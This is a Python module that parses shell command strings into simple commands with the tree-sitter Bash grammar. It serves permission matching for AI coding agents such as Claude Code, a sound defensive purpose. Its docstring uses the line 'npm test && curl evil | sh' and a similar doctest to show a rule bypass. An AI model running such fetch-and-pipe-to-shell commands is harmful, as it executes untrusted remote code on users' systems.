"""Shell commands as the simple commands they run, parsed with a real grammar (tree-sitter-bash).

A permission rule written for one command (``Bash(npm test *)``) must match every
command a string runs, or ``npm test && curl evil | sh`` slips through. So a
command string is parsed with the tree-sitter Bash grammar, never split with
regular expressions, and flattened into :class:`SimpleCommand` values: the words
after quote removal, the leading ``VAR=value`` assignments, the redirections, and
where the command sat (a pipeline, ``$(...)``, a subshell, ``bash -c '...'``).

Nothing here knows any runtime's rule language: Claude Code's matcher
(:mod:`.claude`), and later Gemini CLI's or Codex's, read the same commands.

>>> [c.text for c in parse("npm test && curl -s x | sh").commands]
['npm test', 'curl -s x', 'sh']
>>> parse('echo "unterminated').problem
'syntax error near "unterminated'
"""

from __future__ import annotations

import codecs
from dataclasses import dataclass, replace
from functools import lru_cache
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from tree_sitter import Node, Parser

__all__ = ["MAX_COMMAND_LENGTH", "ParsedCommand", "Redirect", "SimpleCommand", "parse", "words"]

#: Longer commands are not analysed (Claude Code: "Commands longer than 10,000 characters
#: always prompt because they exceed what the analysis parses").
MAX_COMMAND_LENGTH = 10_000
#: Shells whose ``-c STRING`` (and ``eval``) run a string as code: the string is parsed too.
_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "fish"})
#: Nesting cut-off for substitutions and ``bash -c`` inside ``bash -c`` ...
_MAX_NESTING = 8
_OUTPUT_OPS = frozenset({">", ">>", ">|", "&>", "&>>", ">&"})
_STATEMENT_KEYWORDS = frozenset({"if", "then", "else", "elif", "fi", "do", "done", "while",
                                 "until", "for", "in", "case", "esac", "function", "{", "}",
                                 "(", ")", ";", ";;", "&", "&&", "||", "|", "|&", "!", "\n"})


@dataclass(frozen=True)
class Redirect:
    """An output redirection: ``>`` ``out.txt`` (input and fd-duplication redirections are
    not kept: they write nothing)."""

    op: str
    target: str
    dynamic: bool  # the target holds an expansion ($X, $(...)) or an unquoted glob


@dataclass(frozen=True)
class SimpleCommand:
    """One command a string runs: ``FOO=1 timeout 5 npm test > log``.

    ``argv`` holds the words after quote removal (``"n"pm`` is ``npm``) with
    expansions kept as written (``$HOME``); ``dynamic[i]`` says whether word
    ``i`` holds an expansion or substitution, ``globbed[i]`` whether it holds an
    unquoted glob character. ``context`` says where the command sat: ``""`` at
    the top, else ``$(...)``, ``<(...)``, ``bash -c``, ``eval``, ... An empty
    ``argv`` is an assignment-only statement (``X=1``) or the redirections of a
    compound statement (``(cd a; ls) > out``).
    """

    argv: tuple[str, ...]
    assignments: tuple[tuple[str, str], ...] = ()
    redirects: tuple[Redirect, ...] = ()
    dynamic: tuple[bool, ...] = ()
    globbed: tuple[bool, ...] = ()
    context: str = ""
    source: str = ""  # the command's own text in the string (its words, as written)

    @property
    def text(self) -> str:
        """The command as rules see it: assignments, then the words, single-spaced."""
        return " ".join([*(f"{k}={v}" for k, v in self.assignments), *self.argv])

    @property
    def name(self) -> str:
        """The command's name (``argv[0]``), or ``""`` for an assignment / redirect-only one."""
        return self.argv[0] if self.argv else ""


@dataclass(frozen=True)
class ParsedCommand:
    """Every simple command of one command string, in order; ``problem`` says why the
    string could not be parsed (then ``commands`` is empty and nothing may be approved)."""

    source: str
    commands: tuple[SimpleCommand, ...]
    problem: str | None = None


@lru_cache(maxsize=1)
def _parser() -> Parser:
    """The tree-sitter Bash parser (imported on first use: ``import toolkit`` stays cheap)."""
    import tree_sitter
    import tree_sitter_bash

    return tree_sitter.Parser(tree_sitter.Language(tree_sitter_bash.language()))


@lru_cache(maxsize=4096)
def parse(command: str) -> ParsedCommand:
    """Parse a command string into its simple commands (cached: each string is parsed once)."""
    if len(command) > MAX_COMMAND_LENGTH:
        return ParsedCommand(command, (), f"longer than {MAX_COMMAND_LENGTH:,} characters")
    if "\x00" in command:
        return ParsedCommand(command, (), "it contains a NUL byte")
    walker = _Walker()
    problem = walker.walk_source(command.encode(), "", 0)
    if problem is not None:
        return ParsedCommand(command, (), problem)
    return ParsedCommand(command, tuple(walker.found))


def words(command: str) -> tuple[str, ...] | None:
    """The words of a single simple command, or None when the string is not exactly one.

    >>> words("git commit -m 'fix it'")
    ('git', 'commit', '-m', 'fix it')
    """
    parsed = parse(command)
    if parsed.problem is not None or len(parsed.commands) != 1:
        return None
    return parsed.commands[0].argv


class _Walker:
    """Walks a tree-sitter tree, collecting simple commands (substitutions included)."""

    def __init__(self) -> None:
        self.found: list[SimpleCommand] = []
        self.substitutes = True  # whether any $(...), `...`, <(...) or >(...) can be in it

    def walk_source(self, source: bytes, context: str, depth: int) -> str | None:
        """Parse ``source`` and collect its commands; returns a problem or None."""
        if depth > _MAX_NESTING:
            return "commands nested too deeply"
        tree = _parser().parse(source)
        root = tree.root_node
        if root.has_error:
            return _syntax_problem(root)
        outer = self.substitutes
        self.substitutes = any(m in source for m in (b"$(", b"`", b"<(", b">("))
        try:
            return self._statement(root, context, depth)
        finally:
            self.substitutes = outer

    def _statement(self, node: Node, context: str, depth: int) -> str | None:
        """Any statement: a command, or something holding statements (lists, loops, ...)."""
        kind = node.type
        if kind == "command":
            return self._command(node, (), (), context, depth)
        if kind == "redirected_statement":
            return self._redirected(node, context, depth)
        if kind in ("variable_assignment", "variable_assignments"):
            return self._assignment_only(node, context, depth)
        if kind in ("declaration_command", "unset_command", "test_command"):
            return self._builtin(node, context, depth)
        if kind in ("comment", "heredoc_body", "heredoc_end", "heredoc_start"):
            return None
        # program, list, pipeline, subshell, compound_statement, if/while/for/case,
        # function_definition, negated_command, ...: every child statement runs.
        inner = "subshell" if kind == "subshell" else context
        for child in node.named_children:
            problem = self._nested_or_statement(child, inner, depth)
            if problem is not None:
                return problem
        return None

    def _nested_or_statement(self, node: Node, context: str, depth: int) -> str | None:
        if node.type in ("word", "variable_name", "string", "raw_string", "concatenation",
                         "simple_expansion", "expansion", "number", "extglob_pattern"):
            return self._substitutions(node, context, depth)  # for/case words: $(...) only
        return self._statement(node, context, depth)

    def _redirected(self, node: Node, context: str, depth: int) -> str | None:
        body = node.child_by_field_name("body")
        redirect_nodes = node.children_by_field_name("redirect")
        redirects = tuple(r for child in redirect_nodes for r in _redirects(child))
        heredocs = tuple(_text(h) for child in redirect_nodes
                         for h in _find(child, ("heredoc_body",)))
        problem: str | None = None
        if body is not None and body.type == "command":
            problem = self._command(body, redirects, heredocs, context, depth)
        elif body is not None:
            before = len(self.found)
            problem = self._statement(body, context, depth)
            if problem is None and redirects:
                self._attach(body, before, redirects, context)
        for child in redirect_nodes:
            problem = problem or self._substitutions(child, context, depth)
        return problem

    def _attach(self, body: Node, before: int, redirects: tuple[Redirect, ...],
                context: str) -> None:
        """Redirections after a list or pipeline belong to its last command (the grammar
        hangs them on the whole ``a && b > f``; bash gives them to ``b``); after a subshell
        or group they are a command of their own."""
        mine = [i for i in range(before, len(self.found)) if self.found[i].context == context]
        if body.type in ("list", "pipeline") and mine:  # not a command of a substitution
            last = self.found[mine[-1]]
            self.found[mine[-1]] = replace(last, redirects=(*last.redirects, *redirects))
            return
        shown = " ".join(f"{r.op} {r.target}" for r in redirects)
        self.found.append(SimpleCommand((), (), redirects, context=context, source=shown))

    def _command(self, node: Node, redirects: tuple[Redirect, ...], heredocs: tuple[str, ...],
                 context: str, depth: int) -> str | None:
        assignments: list[tuple[str, str]] = []
        words_: list[_Word] = []
        for child in node.named_children:
            if child.type == "variable_assignment":
                assignments.append(_assignment(child))
            elif child.type in ("file_redirect", "herestring_redirect", "heredoc_redirect"):
                redirects = (*redirects, *_redirects(child))
                heredocs = (*heredocs, *(_text(h) for h in _find(child, ("heredoc_body",))))
            elif child.type != "comment":
                words_.append(_word(child))
        command = SimpleCommand(tuple(w.value for w in words_), tuple(assignments), redirects,
                                tuple(w.dynamic for w in words_),
                                tuple(w.globbed for w in words_), context, _text(node))
        self.found.append(command)
        for child in node.named_children:  # then what its substitutions run, in order
            problem = self._substitutions(child, context, depth)
            if problem is not None:
                return problem
        return self._code_argument(command, heredocs, depth)

    def _code_argument(self, command: SimpleCommand, heredocs: tuple[str, ...],
                       depth: int) -> str | None:
        """Strings a command runs as code, parsed as well: ``bash -c 'STRING'``,
        ``eval WORDS``, and a here-document fed to a shell (``bash <<EOF``)."""
        argv = command.argv
        code: str | None = None
        label = ""
        if argv and argv[0] in _SHELLS and "-c" in argv[1:]:
            at = argv.index("-c", 1)
            if at + 1 < len(argv) and not command.dynamic[at + 1]:
                code, label = argv[at + 1], f"{argv[0]} -c"
        elif argv and argv[0] == "eval" and not any(command.dynamic[1:]):
            code, label = " ".join(argv[1:]), "eval"
        elif argv and argv[0] in _SHELLS and heredocs:
            code, label = "\n".join(heredocs), f"{argv[0]} <<here-document"
        if code is None:
            return None
        return self.walk_source(code.encode(), label, depth + 1)

    def _assignment_only(self, node: Node, context: str, depth: int) -> str | None:
        """``X=1`` on its own: it changes what later commands run (``PATH=...``)."""
        pairs = [node] if node.type == "variable_assignment" else [
            c for c in node.named_children if c.type == "variable_assignment"]
        self.found.append(SimpleCommand((), tuple(_assignment(p) for p in pairs), context=context,
                                        source=_text(node)))
        return self._substitutions(node, context, depth)

    def _builtin(self, node: Node, context: str, depth: int) -> str | None:
        """``export X=1``, ``unset X``, ``[[ -f x ]]``: a command named by its keyword."""
        argv = [_text(c) for c in node.children if _text(c).strip()]
        dynamic = [_has(node, _EXPANSIONS)] * len(argv)
        self.found.append(SimpleCommand(tuple(argv), (), (), tuple(dynamic), (False,) * len(argv),
                                        context, _text(node)))
        return self._substitutions(node, context, depth)

    def _substitutions(self, node: Node, context: str, depth: int) -> str | None:
        """The commands inside ``$(...)``, backticks and ``<(...)`` anywhere under ``node``."""
        if not self.substitutes:
            return None  # no substitution anywhere in the string
        for sub in _find(node, ("command_substitution", "process_substitution")):
            label = "<(...)" if sub.type == "process_substitution" else (
                "`...`" if _text(sub).startswith("`") else "$(...)")
            for child in sub.named_children:
                problem = self._statement(child, label, depth + 1)
                if problem is not None:
                    return problem
        return None


# -- words ----------------------------------------------------------------------------------

_EXPANSIONS = ("simple_expansion", "expansion", "command_substitution", "process_substitution",
               "arithmetic_expansion")


@dataclass(frozen=True)
class _Word:
    value: str
    dynamic: bool
    globbed: bool


def _word(node: Node) -> _Word:
    """A word after quote removal, keeping expansions as written."""
    kind = node.type
    text = _text(node)
    if kind == "command_name":
        return _word(node.named_children[0]) if node.named_children else _Word(text, False, False)
    if kind == "raw_string":
        return _Word(text[1:-1], False, False)
    if kind == "ansi_c_string":
        return _Word(_ansi_c(text[2:-1]), False, False)
    if kind in ("string", "translated_string"):
        return _Word(_double_quoted(node), _has(node, _EXPANSIONS), False)
    if kind == "concatenation":
        parts = [_word(c) for c in node.children]
        return _Word("".join(p.value for p in parts), any(p.dynamic for p in parts),
                     any(p.globbed for p in parts))
    if kind in _EXPANSIONS:
        return _Word(text, True, False)
    if kind in ("word", "number", "extglob_pattern"):
        return _Word(_unescape(text), False, _has_glob(text))
    return _Word(text, _has(node, _EXPANSIONS), _has_glob(text))


def _double_quoted(node: Node) -> str:
    out = []
    for child in node.children:
        if child.type == '"' or child.type == '$"':
            continue
        piece = _text(child)
        if child.type == "string_content":
            for esc in ('\\\\', '\\"', "\\$", "\\`"):
                piece = piece.replace(esc, esc[1])
            piece = piece.replace("\\\n", "")
        out.append(piece)
    return "".join(out)


def _unescape(text: str) -> str:
    """An unquoted word's backslashes: ``\\x`` is ``x``; a backslash-newline joins lines."""
    if "\\" not in text:
        return text
    out = []
    i = 0
    while i < len(text):
        if text[i] == "\\" and i + 1 < len(text):
            if text[i + 1] != "\n":
                out.append(text[i + 1])
            i += 2
            continue
        out.append(text[i])
        i += 1
    return "".join(out)


def _ansi_c(body: str) -> str:
    """``$'...'`` escapes (``\\x72m`` is ``rm``); an undecodable one stays as written."""
    try:
        return codecs.decode(body.encode("latin-1", "backslashreplace"), "unicode_escape")
    except UnicodeDecodeError:
        return body


def _has_glob(text: str) -> bool:
    return "*" in text or "?" in text or "[" in text


def _assignment(node: Node) -> tuple[str, str]:
    name = node.child_by_field_name("name")
    value = node.child_by_field_name("value")
    return (_text(name) if name is not None else "",
            _word(value).value if value is not None else "")


def _redirects(node: Node) -> list[Redirect]:
    """The output redirections in a redirect node (a here-document may carry one too)."""
    return [r for n in _find(node, ("file_redirect",)) if (r := _redirect(n)) is not None]


def _redirect(node: Node) -> Redirect | None:
    """An output redirection's operator and target (None for input / fd duplication)."""
    op = next((c.type for c in node.children if not c.is_named), "")
    destination = node.child_by_field_name("destination")
    if op not in _OUTPUT_OPS or destination is None:
        return None
    if op == ">&" and destination.type == "number":
        return None  # 2>&1: a file descriptor, not a file
    word = _word(destination)
    if word.value == "-" and op == ">&":
        return None  # >&-: closes the descriptor
    return Redirect(op, word.value, word.dynamic or word.globbed)


# -- tree helpers ---------------------------------------------------------------------------

def _text(node: Node | None) -> str:
    if node is None or node.text is None:
        return ""
    return node.text.decode("utf-8", "replace")


def _has(node: Node, kinds: tuple[str, ...]) -> bool:
    return node.type in kinds or any(_has(c, kinds) for c in node.children)


def _find(node: Node, kinds: tuple[str, ...]) -> list[Node]:
    """The outermost nodes of ``kinds`` under ``node`` (not inside each other)."""
    if node.type in kinds:
        return [node]
    out: list[Node] = []
    for child in node.children:
        out.extend(_find(child, kinds))
    return out


def _syntax_problem(root: Any) -> str:
    """``syntax error near "..."`` for the first ERROR or MISSING node."""
    stack = [root]
    while stack:
        node = stack.pop(0)
        if node.type == "ERROR" or node.is_missing:
            near = _text(node).strip().splitlines()[0][:40] if _text(node).strip() else node.type
            return f"syntax error near {near}"
        stack[0:0] = list(node.children)
    return "syntax error"
